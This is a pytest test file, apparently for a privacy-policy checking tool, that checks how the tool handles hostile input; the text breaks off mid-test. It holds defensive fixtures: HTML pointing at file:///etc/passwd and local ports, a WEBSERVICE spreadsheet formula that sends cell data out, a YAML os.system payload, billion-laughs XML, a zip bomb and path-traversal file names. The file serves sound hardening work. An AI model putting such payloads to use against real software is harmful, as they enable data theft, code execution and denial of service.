"""Issue 5: hostile input. Every case gets a sound report or one clear line (exit 2), in bounded time
and memory, and nothing in a policy can make gapcheck open a file or a socket.

Long versions (20 MB policy processed, 1 MB line of words, every law) are marked `slow` and run with
GAPCHECK_LONG=1 (see tests/conftest.py and docs/security.md).
"""

from __future__ import annotations

import codecs
import datetime as dt
import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import textwrap
import time
import zipfile
from pathlib import Path

import pypdf
import pytest

from gapcheck import checklists, ingest, pipeline, readers, render, segment
from gapcheck.errors import ChecklistError, InputError
from gapcheck.history import History

from .conftest import FIXTURES, MINI_CHECKLIST, ROOT
from .test_properties import as_docx, assert_sound

AS_OF = dt.date(2026, 11, 22)
SAMPLE = FIXTURES / "policies" / "003_e29ff102ab8d4a64.txt"
TEXT = SAMPLE.read_text(encoding="utf-8")
CCPA = pipeline.resolve_laws(["ccpa"])
ALL = pipeline.resolve_laws(["all"])


def run(raw: bytes, suffix: str = ".txt", lists=CCPA):
    rep = pipeline.analyze_document(ingest.from_bytes(raw, "policy" + suffix, suffix), lists, as_of=AS_OF)
    assert_sound(rep)
    return rep


def statuses(rep) -> dict[str, str]:
    return {r.requirement.id: r.status.value for r in rep.results}


REF = statuses(run(TEXT.encode("utf-8"), lists=ALL))


def gapcheck(*args: str, timeout: float = 120, env: dict | None = None, **kw) -> subprocess.CompletedProcess:
    e = dict(os.environ, **(env or {}))
    return subprocess.run([sys.executable, "-m", "gapcheck", *args], capture_output=True, text=True,
                          timeout=timeout, env=e, **kw)


def assert_one_line_error(p: subprocess.CompletedProcess, needle: str) -> None:
    assert p.returncode == 2, (p.returncode, p.stderr)
    err = p.stderr.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    assert needle in err, err
    assert p.stdout == ""


# =========================================================================== encodings and text

def _smart(s: str) -> str:
    return s.replace("'", "\u2019").replace(' "', " \u201c").replace('" ', "\u201d ")


def _mixed_endings(s: str) -> bytes:
    """\r\n, \r and \n in turn (a lone \r never right before an empty line: \r + \n is one CRLF)."""
    lines = s.splitlines()
    ends = ["\r\n", "\r", "\n"]
    return "".join(ln + ("\r\n" if ends[i % 3] == "\r" and i + 1 < len(lines) and not lines[i + 1] else ends[i % 3])
                   for i, ln in enumerate(lines)).encode("utf-8")


@pytest.mark.parametrize("raw", [
    pytest.param(TEXT.encode("utf-8"), id="utf-8"),
    pytest.param(codecs.BOM_UTF8 + TEXT.encode("utf-8"), id="utf-8-bom"),
    pytest.param(codecs.BOM_UTF16_LE + TEXT.encode("utf-16-le"), id="utf-16-le-bom"),
    pytest.param(codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"), id="utf-16-be-bom"),
    pytest.param(TEXT.encode("utf-16-le"), id="utf-16-le"),
    pytest.param(TEXT.encode("utf-16-be"), id="utf-16-be"),
    pytest.param(_smart(TEXT).encode("cp1252"), id="cp1252-smart-quotes"),
    pytest.param(_mixed_endings(TEXT), id="mixed-line-endings"),
    pytest.param(TEXT.replace("\n", "\r").encode("utf-8"), id="old-mac-cr"),
    pytest.param(TEXT.replace("e", "e\x00", 40).encode("utf-8"), id="nul-bytes"),
])
def test_encodings_give_the_same_verdicts(raw):
    rep = run(raw, lists=ALL)
    assert statuses(rep) == REF
    assert len(rep.document.lines) == len(TEXT.splitlines())


MANGLES = [
    pytest.param(lambda s: s.replace(" ", "\u200b "), id="zero-width-space-before-spaces"),
    pytest.param(lambda s: s.replace(" ", "\u00a0"), id="no-break-spaces"),
    pytest.param(lambda s: s.replace(" ", "\u202f"), id="narrow-no-break-spaces"),
    pytest.param(lambda s: "\u200f" + s.replace("\n", "\u200f\n\u200f"), id="rtl-marks-on-every-line"),
    pytest.param(lambda s: s.replace(" ", "\u200e "), id="ltr-marks"),
    pytest.param(lambda s: s.replace("tion", "\u00adtion"), id="soft-hyphens"),
    pytest.param(lambda s: s.replace(" the ", " \ufeffthe "), id="stray-bom"),
    pytest.param(lambda s: s.replace("We ", "We\u2060 "), id="word-joiner"),
]
PARAS = [" ".join(p.split()) for p in TEXT.split("\n\n") if p.strip()]


def _as(fmt: str, paras: list[str]) -> bytes:
    if fmt == ".html":
        import html

        return ("<html><body>" + "".join(f"<p>{html.escape(p)}</p>" for p in paras) + "</body></html>").encode()
    return as_docx([("paragraph", p) for p in paras])


@pytest.mark.parametrize("fmt", [".html", ".docx"])
@pytest.mark.parametrize("mangle", MANGLES)
def test_invisible_characters_do_not_change_verdicts(fmt, mangle):
    clean = run(_as(fmt, PARAS), fmt, ALL)
    rep = run(_as(fmt, [mangle(p) for p in PARAS]), fmt, ALL)
    assert statuses(rep) == statuses(clean)
    assert rep.document.lines == clean.document.lines  # removed or made plain: the same text


@pytest.mark.parametrize("mangle", [pytest.param(lambda s: s.replace(" ", "\u00a0"), id="no-break-spaces"),
                                    pytest.param(lambda s: s.replace(" ", "  "), id="double-spaces"),
                                    pytest.param(lambda s: s.replace(" ", "\u200b "), id="zero-width-spaces"),
                                    pytest.param(lambda s: s.replace(" ", "\t"), id="tabs")])
def test_invisible_characters_in_a_text_file_do_not_change_verdicts(mangle):
    rep = run(mangle(TEXT).encode("utf-8"), lists=ALL)
    assert rep.document.lines == tuple(mangle(TEXT).splitlines())  # the file's own lines, untouched
    assert statuses(rep) == REF


def test_unicode_hyphens_read_as_hyphens():
    """Word processors type U+2010/U+2011 for the hyphen of "opt-out" and "third-party"."""
    hyphened = re.sub(r"(?<=\w)-(?=\w)", "\u2010", TEXT)
    assert hyphened != TEXT
    rep = run(hyphened.encode("utf-8"), lists=ALL)
    assert rep.document.lines == tuple(hyphened.splitlines())  # quotes keep the policy's own hyphens
    assert statuses(rep) == REF
    nb = run(re.sub(r"(?<=\w)-(?=\w)", "\u2011", TEXT).encode("utf-8"), lists=ALL)
    assert statuses(nb) == REF


def test_invisible_characters_in_a_text_file_keep_the_lines_and_a_sound_report():
    for mangle in MANGLES:
        rep = run(mangle.values[0](TEXT).encode("utf-8"))
        assert rep.document.lines == tuple(mangle.values[0](TEXT).splitlines())


def test_zero_width_residue_is_reported_with_an_exact_quote():
    for fmt, raw in ((".txt", TEXT.replace("personal information", "personal\u200b information").encode()),
                     (".html", _as(".html", [p.replace("personal information", "personal\u200b information")
                                             for p in PARAS]))):
        rep = run(raw, fmt)
        notes = [f for f in rep.findings if f.id == "draft-conversion-artifacts"]
        assert notes, fmt
        for f in notes:
            assert f.quote in rep.document.lines[f.line_start - 1]


def test_one_megabyte_line_of_junk_is_bounded():
    t = time.monotonic()
    rep = run(("x" * 1_000_000 + "\nWe collect your name and e-mail address.\n").encode())
    assert time.monotonic() - t < 60
    assert len(rep.document.lines) == 2


@pytest.mark.slow
def test_one_megabyte_line_of_words_every_law():
    t = time.monotonic()
    rep = run((("We collect your name and e-mail address to deliver orders. " * 20000)[:1_000_000]).encode(),
              lists=ALL)
    assert time.monotonic() - t < 120
    assert len(rep.document.lines) == 1


# A small Python process starts gapcheck and reports the child's peak RSS: measured straight from
# pytest, the forked child would count the (large, growing) test process's own pages as its own.
_MEASURE = ("import os, subprocess, sys\n"
            "p = subprocess.Popen(sys.argv[1:])\n"
            "_, status, usage = os.wait4(p.pid, 0)\n"
            "sys.stderr.write(f'\\n@@rss {usage.ru_maxrss}\\n')\n"
            "sys.exit(os.waitstatus_to_exitcode(status))\n")


def _measured(cmd: list[str]) -> tuple[int, float, str]:
    """(exit code, peak RSS of the gapcheck process in MB, its stderr)."""
    p = subprocess.run([sys.executable, "-c", _MEASURE, *cmd], capture_output=True, text=True)
    err, _, tail = p.stderr.rpartition("\n@@rss ")
    return p.returncode, int(tail.split()[0]) / 1024, err


def _big_policy(path: Path, size: int) -> None:
    chunk = (TEXT + "\n").encode("utf-8")
    with path.open("wb") as f:
        n = 0
        while n < size:
            f.write(chunk)
            n += len(chunk)


def test_twenty_megabyte_policy_is_refused_by_the_limit_in_bounded_memory(tmp_path):
    big = tmp_path / "big.txt"
    _big_policy(big, 20 * 1024 * 1024)
    t = time.monotonic()
    rc, rss, err = _measured([sys.executable, "-m", "gapcheck", "run", str(big), "--output", "-", "--no-history"])
    assert rc == 2, err
    assert "over the 2,097,152-byte limit" in err and "--max-bytes" in err and len(err.strip().splitlines()) == 1
    assert rss < 200, rss  # the file is never read into memory
    assert time.monotonic() - t < 30
    with pytest.raises(InputError, match="over the 1,000-byte limit"):
        ingest.load(big, max_bytes=1000)


@pytest.mark.slow
def test_twenty_megabyte_policy_is_processed_when_the_limit_is_raised(tmp_path):
    big = tmp_path / "big.txt"
    _big_policy(big, 20 * 1024 * 1024)
    rc, rss, err = _measured([sys.executable, "-m", "gapcheck", "run", str(big), "--max-bytes",
                              str(25 * 1024 * 1024), "--format", "json", "--output", str(tmp_path / "out"),
                              "--no-history"])
    assert rc == 0, err
    # Linear in the text: 560 MB before the per-clause pattern memo (a2c1ed2), 2.1 GB with it.
    assert rss < 2600, rss
    d = json.loads(next((tmp_path / "out").glob("*.json")).read_text())
    assert {r["id"]: r["status"] for r in d["requirements"]} == REF


# =========================================================================== structure

def test_no_headings_at_all():
    paras = [" ".join(ln.split()) for ln in TEXT.splitlines() if len(ln.split()) > 9]
    rep = run("\n\n".join(paras).encode())
    assert not [c for c in rep.clauses if c.clause.kind == "heading"]
    assert any(r.status.value == "met" for r in rep.results)


def test_only_headings():
    rep = run("\n".join(f"## Section {i}: Your Privacy Rights" for i in range(3000)).encode())
    assert {c.clause.kind for c in rep.clauses} == {"heading"}
    assert len(rep.clauses) == 3000


def test_ten_thousand_one_line_bullets():
    t = time.monotonic()
    rep = run(("# Data we collect\n" + "".join(f"- item {i}: your e-mail address\n" for i in range(10000))).encode())
    assert sum(1 for c in rep.clauses if c.clause.kind == "bullet") == 10000
    assert time.monotonic() - t < 60


@pytest.mark.parametrize("html", [
    pytest.param("<html><body>" + "<div>" * 10000 + "<p>We collect your name.</p>" + "</div>" * 10000, id="closed"),
    pytest.param("<html><body>" + "<div><span><b>" * 10000 + "We collect your name.", id="never-closed"),
    pytest.param("<html><body>" + "<table><tr><td>" * 3000 + "We collect your name.", id="tables"),
    pytest.param("<html><body>" + "<ul><li>" * 10000 + "We collect your name.", id="lists"),
])
def test_html_nested_ten_thousand_levels(html):
    rep = run(html.encode(), ".html")
    assert "We collect your name." in rep.document.text


ACTIVE_HTML = """<!DOCTYPE html><html><head><title>Privacy | Acme</title>
<style>@import url(http://127.0.0.1:9/x.css); body{background:url(file:///etc/passwd)}</style>
<script>document.write("SCRIPT-TEXT")</script><link rel=stylesheet href="http://127.0.0.1:9/a.css"></head>
<body><nav>NAV-TEXT</nav><noscript>NOSCRIPT-TEXT</noscript>
<iframe src="https://evil.example/">IFRAME-TEXT</iframe>
<form action="http://127.0.0.1:9/"><input name=q value="FORM-VALUE"><button>BUTTON-TEXT</button>
<textarea>TEXTAREA-TEXT</textarea><select><option>OPTION-TEXT</option></select></form>
<svg><text>SVG-TEXT</text><script>SVG-SCRIPT</script></svg><template>TEMPLATE-TEXT</template>
<h1>Privacy Policy</h1><p>We collect your name and e-mail address.<img src="file:///etc/passwd"></p>
<p>Contact privacy@acme.example.<script>ALSO-SCRIPT</script></p><object data="x.swf">OBJECT-TEXT</object>
<footer>FOOTER-TEXT</footer></body></html>"""


def test_active_html_content_is_dropped():
    rep = run(ACTIVE_HTML.encode(), ".html")
    text = rep.document.text
    assert "# Privacy Policy" in rep.document.lines and "We collect your name and e-mail address." in text
    assert "privacy@acme.example" in text
    for junk in ("SCRIPT", "NAV-TEXT", "NOSCRIPT", "IFRAME", "FORM-VALUE", "BUTTON", "TEXTAREA", "OPTION", "SVG",
                 "TEMPLATE", "OBJECT", "FOOTER", "import", "passwd", "127.0.0.1"):
        assert junk not in text, junk


def test_layout_tables_read_like_the_text():
    paras = [" ".join(ln.split()) for ln in TEXT.split("\n\n") if ln.strip()]
    cells = "".join(f"<tr><td width=10></td><td><p>{p}</p></td></tr>" for p in paras)
    page = f"<html><body><table><tr><td>Logo</td><td><table>{cells}</table></td></tr></table></body></html>"
    txt = "\n\n".join(paras) + "\n"
    assert statuses(run(page.encode(), ".html", ALL)) == statuses(run(txt.encode(), ".txt", ALL))


# =========================================================================== files

def _zip(members: dict[str, bytes], method=zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        for k, v in members.items():
            z.writestr(k, v)
    return buf.getvalue()


def _docx_bomb() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z, \
            z.open("word/document.xml", "w", force_zip64=True) as f:
        for _ in range(200):  # 200 MB of spaces, about 200 KB compressed
            f.write(b" " * (1 << 20))
    return buf.getvalue()


def _lying_zip() -> bytes:
    """A zip whose headers say document.xml is 100 bytes while it inflates to 4 MB."""
    data = bytearray(_zip({"word/document.xml": b"<" + b" " * (4 * 1024 * 1024)}))
    cd = data.rfind(b"PK\x01\x02")
    data[cd + 24:cd + 28] = (100).to_bytes(4, "little")  # central directory: uncompressed size
    data[22:26] = (100).to_bytes(4, "little")  # local header too
    return bytes(data)


def _pdf(body: str) -> bytes:
    import weasyprint

    return weasyprint.HTML(string=f"<html><body>{body}</body></html>",
                           url_fetcher=render.url_fetcher(render.ReportOptions())).write_pdf()


@pytest.fixture(scope="module")
def text_pdf() -> bytes:
    return _pdf("<h1>Privacy Policy</h1><p>We collect your name and e-mail address to deliver your orders.</p>")


@pytest.mark.parametrize(("name", "make", "needle"), [
    ("bomb.docx", lambda pdf: _docx_bomb(), "limit"),
    ("lying-sizes.docx", lambda pdf: _lying_zip(), ".docx"),
    ("not-a-zip.docx", lambda pdf: b"Dear client, here is the policy.", "not a .docx file"),
    ("truncated.docx", lambda pdf: as_docx([("paragraph", "We collect data.")])[:200], "not a .docx file"),
    ("other-zip.docx", lambda pdf: _zip({"mimetype": b"application/epub+zip"}), "no word/document.xml"),
    ("protected.docx", lambda pdf: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2000, "password-protected"),
    ("billion-laughs.docx", lambda pdf: _zip({"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE d '
                                              b'[<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;">]>'
                                              b"<d>&b;</d>"}), "DTD"),
    ("bad-xml.docx", lambda pdf: _zip({"word/document.xml": b"<w:document><w:body><w:p>"}), "damaged .docx"),
    ("corrupt.pdf", lambda pdf: pdf[:len(pdf) // 3], "PDF"),
    ("garbage.pdf", lambda pdf: b"%PDF-1.7\n" + os.urandom(3000), "PDF"),
    ("scanned.pdf", lambda pdf: _pdf('<div style="height:300px;background:#000"></div>'), "scanned PDF"),
    ("text-named.pdf", lambda pdf: b"We collect your name.", "not a PDF"),
])
def test_hostile_files_are_one_clear_error(tmp_path, text_pdf, name, make, needle):
    path = tmp_path / name
    path.write_bytes(make(text_pdf))
    t = time.monotonic()
    with pytest.raises(InputError) as ei:
        doc = ingest.load(path, max_bytes=10 * 1024 * 1024)
        if name == "corrupt.pdf":  # pypdf may recover part of a truncated file: then it must be sound
            pytest.skip(f"recovered {len(doc.lines)} lines")
    assert time.monotonic() - t < 20
    msg = str(ei.value)
    assert needle in msg and "\n" not in msg and msg.startswith(str(path))


def test_encrypted_pdf_through_the_command_line(tmp_path, text_pdf):
    w = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(text_pdf)))
    w.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    path = tmp_path / "locked.pdf"
    with path.open("wb") as f:
        w.write(f)
    assert_one_line_error(gapcheck("run", str(path), "--output", "-", "--no-history"), "encrypted")


@pytest.mark.parametrize(("name", "content", "fmt"), [
    ("policy.txt", "pdf", "pdf"),        # a PDF saved as .txt is read as the PDF it is
    ("policy.md", "docx", "docx"),       # a Word file named .md
    ("policy.html", "docx", "docx"),
    ("policy.txt", "html", "html"),      # a saved web page named .txt
    ("policy", "text", "text"),          # no extension at all
    ("policy.pdf.txt", "text", "text"),
])
def test_extension_that_lies_about_the_content(tmp_path, text_pdf, name, content, fmt):
    data = {"pdf": text_pdf, "docx": as_docx([("heading", "Privacy Policy"),
                                             ("paragraph", "We collect your name and e-mail address.")]),
            "html": b"<!DOCTYPE html><html><body><h1>Privacy Policy</h1><p>We collect your name and e-mail "
                    b"address.</p><script>x()</script></body></html>",
            "text": b"Privacy Policy\n\nWe collect your name and e-mail address.\n"}[content]
    path = tmp_path / name
    path.write_bytes(data)
    doc = ingest.load(path)
    assert doc.fmt == fmt
    assert any("We collect your name" in ln for ln in doc.lines)
    assert "script" not in doc.text and "<" not in doc.text


def _unreadable(tmp_path: Path) -> Path:
    p = tmp_path / "secret.txt"
    p.write_text("We collect your name.")
    p.chmod(0)
    return p


@pytest.mark.parametrize(("make", "needle"), [
    (lambda d: d, "is a directory"),
    (lambda d: (d / "loop1").symlink_to(d / "loop2") or (d / "loop2").symlink_to(d / "loop1") or d / "loop1",
     "symbolic link loop"),
    (lambda d: (d / "dangling.txt").symlink_to(d / "gone.txt") or d / "dangling.txt", "broken symbolic link"),
    (lambda d: os.mkfifo(d / "fifo.txt") or d / "fifo.txt", "not a regular file"),
    (lambda d: Path("/dev/zero"), "not a regular file"),
    (lambda d: d / "missing.txt", "no such file"),
])
def test_unusable_paths_are_one_clear_error_on_the_command_line(tmp_path, make, needle):
    path = make(tmp_path)
    assert_one_line_error(gapcheck("run", str(path), "--output", "-", "--no-history", timeout=60), needle)


def test_unreadable_file(tmp_path, monkeypatch):
    path = _unreadable(tmp_path)
    if os.geteuid() == 0:  # root reads anything: simulate the refusal the OS gives everyone else
        real_open = Path.open

        def deny(self, *a, **kw):
            if self == path:
                raise PermissionError(13, "Permission denied")
            return real_open(self, *a, **kw)

        monkeypatch.setattr(Path, "open", deny)
    with pytest.raises(InputError, match="cannot read file \\(Permission denied\\)"):
        ingest.load(path)


def test_deep_word_structure_is_read_without_recursion():
    body = ("<w:sdt><w:sdtContent>" * 5000 + '<w:p><w:r><w:t>We collect your name.</w:t></w:r></w:p>'
            + "</w:sdtContent></w:sdt>" * 5000)
    data = _zip({"word/document.xml": (f'<?xml version="1.0"?><w:document xmlns:w="{readers.W[1:-1]}">'
                                       f"<w:body>{body}</w:body></w:document>").encode()})
    text, _ = readers.read_docx(data, "deep.docx")
    assert text == "We collect your name.\n"


# =========================================================================== checklists

MINI = MINI_CHECKLIST


@pytest.mark.parametrize(("yaml_text", "needle"), [
    (MINI + MINI.split("items:\n")[1], "duplicate id"),
    ("colour: red\n" + MINI, "unknown top-level key 'colour'"),
    (MINI.replace("    met_when:", "    colour: red\n    met_when:"), "colour"),
    (MINI.replace("{label: dpo}", "{regex: '(a+)+$'}"), "backtrack catastrophically"),
    (MINI.replace("{label: dpo}", "{regex: '(unclosed'}"), "does not compile"),
    (MINI.replace("{label: dpo}", "{heading: '[z-a]'}"), "does not compile"),
    (MINI.replace("{label: dpo}", "{in_places: {n: 0, of: {label: dpo}}}"), "in_places takes"),
    (MINI.replace("{label: dpo}", "{in_places: [{label: dpo}]}"), "in_places takes"),
    (MINI.replace("{label: dpo}", "!!python/object/apply:os.system ['echo pwned']"), "invalid YAML"),
    ("law: [unclosed\n", "invalid YAML"),
    ("a: &a [*a]\n" + MINI, "invalid YAML"),
    ("", "must be a mapping"),
])
def test_bad_checklists_are_rejected_at_load(tmp_path, yaml_text, needle):
    with pytest.raises(ChecklistError, match=None) as ei:
        checklists.parse_checklist(yaml_text, "mine.yaml")
    assert needle in str(ei.value) and str(ei.value).startswith("mine.yaml")


def test_duplicate_ids_across_checklists(tmp_path):
    a, b = tmp_path / "a.yaml", tmp_path / "b.yaml"
    a.write_text(MINI)
    b.write_text(MINI.replace("law: acme", "law: other"))
    assert_one_line_error(gapcheck("run", str(SAMPLE), "--checklist", str(a), "--checklist", str(b),
                                   "--output", "-", "--no-history"), "duplicate id")


@pytest.mark.parametrize("pattern", [r"(a|a)+$", r"((a+))+$", r"\w*\w*\w*\w*\w*\w*\w*!", r"(aa|a)+$"])
def test_catastrophic_patterns_missed_at_load_are_stopped_at_run_time(tmp_path, pattern):
    cl = tmp_path / "mine.yaml"
    cl.write_text(MINI.replace("{label: dpo}", "{regex: '" + pattern + "'}"))
    pol = tmp_path / "policy.txt"
    # the "!" lets the pattern's required literal pass the pre-filter (gapcheck.prefilter): without
    # it the pattern cannot match the clause and is rightly never run
    pol.write_text("Privacy Policy\n\nWe collect your name! " + "a" * 280 + "?\n")
    t = time.monotonic()
    p = gapcheck("run", str(pol), "--checklist", str(cl), "--output", "-", "--no-history",
                 env={"GAPCHECK_REGEX_TIMEOUT": "1"})
    assert time.monotonic() - t < 20
    assert_one_line_error(p, "matching took more than 1 s")
    assert "item 'acme-dpo-named'" in p.stderr and "GAPCHECK_REGEX_TIMEOUT" in p.stderr


def test_validate_stops_a_catastrophic_pattern_in_its_own_examples(tmp_path):
    cl = tmp_path / "mine.yaml"
    cl.write_text(MINI.replace("{label: dpo}", "{regex: '(a|a)+$'}").replace(
        '["Contact our Data Protection Officer at dpo@acme.example."]', '["' + "a" * 60 + '?"]'))
    p = gapcheck("checklists", "validate", str(cl), env={"GAPCHECK_REGEX_TIMEOUT": "1"}, timeout=60)
    assert_one_line_error(p, "matching took more than 1 s")


def test_catastrophic_heading_regex_is_stopped_too(tmp_path, monkeypatch):
    monkeypatch.setenv("GAPCHECK_REGEX_TIMEOUT", "0.5")
    cl = checklists.parse_checklist(MINI.replace("{label: dpo}", "{heading: '(x|x)+$'}"), "mine.yaml")
    doc = ingest.from_text("## " + "x" * 40 + "!\n\nWe collect data.\n")
    t = time.monotonic()
    with pytest.raises(ChecklistError, match="matching took more than 0.5 s"):
        pipeline.analyze_document(doc, (cl,), as_of=AS_OF)
    assert time.monotonic() - t < 10


def test_packaged_checklists_run_unguarded_and_user_ones_guarded():
    from gapcheck.regexguard import GuardedPattern

    def patterns(m, out):
        if hasattr(m, "rx"):
            out.append(m.rx)
        for c in getattr(m, "children", ()) or ([m.child] if hasattr(m, "child") else []):
            patterns(c, out)
        return out

    packaged = [rx for cl in ALL for r in cl.requirements for m in (r.matcher, r.partial, r.not_applicable)
                if m is not None for rx in patterns(m, [])]
    assert packaged and not any(isinstance(rx, GuardedPattern) for rx in packaged)
    mine = checklists.parse_checklist(MINI.replace("{label: dpo}", "{regex: 'officer'}"), "mine.yaml")
    assert isinstance(mine.requirements[0].matcher.rx, GuardedPattern)
    doc = ingest.from_text("Our data protection officer is Jane.\n")
    rep = pipeline.analyze_document(doc, (mine,), as_of=AS_OF)
    assert rep.results[0].status.value == "met" and "officer" in rep.results[0].evidence[0].quote


# =========================================================================== output safety

HOSTILE_ESCAPED = """<!DOCTYPE html><html><body><h1>Privacy Policy {{ 7*7 }} {%% include '/etc/passwd' %%}</h1>
<p>We collect your name. &lt;img src="http://127.0.0.1:%(port)d/pixel.png"&gt;
&lt;img src="file:///etc/passwd"&gt; &lt;link rel="stylesheet" href="http://127.0.0.1:%(port)d/a.css"&gt;</p>
<p>&lt;style&gt;@import url("http://127.0.0.1:%(port)d/i.css"); body { background: url(http://127.0.0.1:%(port)d/b.png)
} &lt;/style&gt; &lt;iframe src="file:///etc/shadow"&gt;&lt;/iframe&gt; &lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>Real markup: <img src="http://127.0.0.1:%(port)d/real.png"><link rel=stylesheet href="file:///etc/passwd">
<style>@import url(http://127.0.0.1:%(port)d/real.css);</style> We keep data for 30 days.</p></body></html>"""


@pytest.fixture
def listener():
    """A TCP socket on 127.0.0.1 that records every connection made to it."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.setblocking(False)
    yield srv
    srv.close()


def _connections(srv: socket.socket) -> int:
    n = 0
    while True:
        try:
            c, _ = srv.accept()
        except BlockingIOError:
            return n
        c.close()
        n += 1


def test_policy_urls_never_reach_a_file_or_a_socket(tmp_path, listener, asset_calls):
    port = listener.getsockname()[1]
    policy = tmp_path / "hostile.html"
    policy.write_text(HOSTILE_ESCAPED % {"port": port}, encoding="utf-8")
    rep = pipeline.analyze(policy, laws=["ccpa"], as_of=AS_OF)
    assert "<img src=\"http://127.0.0.1" in rep.document.text  # the escaped markup is now policy *text*
    calls = asset_calls
    paths = render.write_all(rep, tmp_path / "out", ["pdf", "html", "md", "xlsx", "json", "csv"])
    assert len(paths) == 6
    assert calls and all(u.startswith("gapcheck-asset:fonts/") for u in calls), calls
    html = (tmp_path / "out" / paths[1].name).read_text(encoding="utf-8")
    for bad in ('<img src="http://127.0.0.1', '<img src="file:', "<link rel", "<iframe", "<script>", "@import url"):
        assert bad not in html, bad
    assert "{{ 7*7 }}" in html and "{% include" in html and "root:" not in html
    pdf_text = "\n".join(p.extract_text() or "" for p in pypdf.PdfReader(paths[0]).pages)
    assert "root:" not in pdf_text and "7*7" in pdf_text
    time.sleep(0.2)
    assert _connections(listener) == 0


def test_markup_handed_straight_to_the_pdf_renderer_opens_nothing(listener, asset_calls):
    """Even if policy markup did reach WeasyPrint unescaped, the fetcher refuses every URL."""
    import weasyprint

    port = listener.getsockname()[1]
    calls = asset_calls
    u = f"http://127.0.0.1:{port}"
    page = (f'<html><head><link rel="stylesheet" href="{u}/a.css"><style>@import url("{u}/i.css"); '
            f'body {{ background: url({u}/b.png) }} @font-face {{ font-family: x; src: url({u}/f.ttf) }} '
            f"p {{ font-family: x; list-style-image: url(file:///etc/passwd) }}</style></head>"
            f'<body><p>x</p><img src="{u}/i.png"><img src="file:///etc/passwd"><object data="{u}/o"></object>'
            f'<svg><image href="{u}/s.png"/></svg><iframe src="{u}/f"></iframe></body></html>')
    weasyprint.HTML(string=page, base_url=render.ASSET_SCHEME,
                    url_fetcher=render.url_fetcher(render.ReportOptions())).write_pdf()
    assert any(str(port) in c for c in calls) and any("passwd" in c for c in calls)
    time.sleep(0.2)
    assert _connections(listener) == 0


def test_spreadsheet_cells_are_never_formulas():
    import dataclasses

    import openpyxl

    from gapcheck.models import Finding, Severity

    rep = pipeline.analyze(SAMPLE, laws=["ccpa"], as_of=AS_OF)
    evil = '=WEBSERVICE("http://127.0.0.1:9/?"&A1)'
    rep = dataclasses.replace(rep, findings=(Finding("draft-unresolved-notes", Severity.HIGH, 1, 1, evil, "x."),))
    wb = openpyxl.load_workbook(io.BytesIO(render.to_xlsx(rep)))
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert any(c.value == evil for c in cells)
    assert not any(c.data_type == "f" for c in cells)


@pytest.mark.parametrize("source", ["../../etc/cron.d/evil.txt", "/etc/passwd", "..", "...", "C:\\Windows\\x.txt",
                                    "a\nb\x00c.txt", "名前 ポリシー.txt", "-rf .txt", "con.txt", "x" * 500,
                                    "https://evil.example/../../x?y=../z"])
def test_report_files_stay_in_the_output_folder(tmp_path, source):
    rep = pipeline.analyze(SAMPLE, laws=["ccpa"], as_of=AS_OF)
    import dataclasses

    rep = dataclasses.replace(rep, document=dataclasses.replace(rep.document, source=source))
    out = tmp_path / "out"
    paths = render.write_all(rep, out, ["json", "md"])
    assert all(p.resolve().parent == out.resolve() for p in paths)
    assert sorted(x.name for x in out.iterdir()) == sorted(p.name for p in paths)
    assert all(not p.name.startswith(("-", ".")) for p in paths)


def test_a_symlink_at_the_report_name_is_replaced_not_followed(tmp_path):
    rep = pipeline.analyze(SAMPLE, laws=["ccpa"], as_of=AS_OF)
    out = tmp_path / "out"
    out.mkdir()
    victim = tmp_path / "victim.txt"
    victim.write_text("precious")
    (out / render.report_name(rep, "json")).symlink_to(victim)
    render.write_all(rep, out, ["json"])
    assert victim.read_text() == "precious"
    assert not (out / render.report_name(rep, "json")).is_symlink()


# =========================================================================== interrupts

SLOW_WRITE = textwrap.dedent("""
    import os, sys, time
    import gapcheck.render as render
    from gapcheck import history
    real_fsync = os.fsync
    def slow_fsync(fd):
        print("writing", flush=True)
        time.sleep(60)
    real_record = history.History.record
    def slow_record(self, *a, **kw):  # the real record(), held up inside its transaction
        real_db = self.db
        class Slow:
            def __getattr__(self, name):
                return getattr(real_db, name)
            def executemany(self, sql, rows):
                real_db.executemany(sql, rows)
                print("recording", flush=True)
                time.sleep(60)
        self.db = Slow()
        try:
            return real_record(self, *a, **kw)
        finally:
            self.db = real_db
    if sys.argv[1] == "write":
        render.os.fsync = slow_fsync
    else:
        history.History.record = slow_record
    sys.argv = ["gapcheck"] + sys.argv[2:]
    from gapcheck.cli import main
    main()
""")


@pytest.mark.parametrize(("sig", "where"), [(signal.SIGINT, "write"), (signal.SIGTERM, "write"),
                                            (signal.SIGTERM, "record"), (signal.SIGKILL, "write")])
def test_interrupt_leaves_no_partial_report_or_record(tmp_path, sig, where):
    out, db = tmp_path / "out", tmp_path / "h.sqlite"
    first = gapcheck("run", str(SAMPLE), "--law", "ccpa", "--format", "json", "--output", str(out),
                     "--history", str(db), "--as-of", "2026-11-22")
    assert first.returncode == 0, first.stderr
    report = out / "003_e29ff102ab8d4a64-ccpa-20261122.json"
    before = report.read_bytes()
    script = tmp_path / "slow.py"
    script.write_text(SLOW_WRITE)
    p = subprocess.Popen([sys.executable, str(script), where, "run", str(SAMPLE), "--law", "ccpa", "--format", "json",
                          "--output", str(out), "--history", str(db), "--as-of", "2026-11-22"],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT)
    expect = "writing" if where == "write" else "recording"
    assert p.stdout.readline().strip() == expect
    p.send_signal(sig)
    p.wait(timeout=30)
    err = p.stderr.read()
    if sig != signal.SIGKILL:
        assert p.returncode == 128 + sig, err
        assert "interrupted" in err and "Traceback" not in err, err
    leftovers = sorted(x.name for x in out.iterdir())
    if where == "write":
